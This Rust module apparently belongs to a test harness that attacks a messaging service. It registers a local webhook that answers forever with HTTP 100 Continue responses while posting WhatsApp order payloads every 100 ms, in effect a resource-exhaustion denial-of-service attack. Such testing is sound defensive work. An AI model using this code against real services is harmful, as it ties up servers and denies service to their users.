//! A webhook receiver that answers with informational answers for ever.

use std::{net::TcpListener, time::Duration};

use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::Attack;
use crate::stage::Stage;

/// A receiver whose answers never become final, and a send of the attacker's every 100 ms.
pub async fn endless(stage: &Stage) -> Attack {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let webhooks = json!({ "statusUpdateURL": format!("http://{}/status", listener.local_addr().unwrap()) });
    let reply = stage.attacker.post("/messaging-service/WhatsApp/WhatsAppClientWebHook", &webhooks).await;
    assert!(matches!(reply.status, 200 | 201), "{}", reply.text);
    let (ground, base) = (stage.ground(), stage.base());
    let payload = stage.attacker.order_ready(&["27840000003"]);
    Box::pin(async move {
        tokio::spawn(receive(tokio::net::TcpListener::from_std(listener).unwrap()));
        let http = ground.sources.attacker(0).http(Duration::from_secs(20));
        let url = format!("{base}/whatsapp-api-service/v2/channels/whatsapp");
        loop {
            drop(http.post(&url).header("Authorization", &ground.key).json(&payload).send().await);
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    })
}

async fn receive(listener: tokio::net::TcpListener) {
    let answers = b"HTTP/1.1 100 Continue\r\n\r\n".repeat(2_000);
    while let Ok((mut connection, _)) = listener.accept().await {
        let answers = answers.clone();
        tokio::spawn(async move {
            let mut request = [0; 4096];
            if connection.read(&mut request).await.is_ok() {
                while connection.write_all(&answers).await.is_ok() {}
            }
        });
    }
}
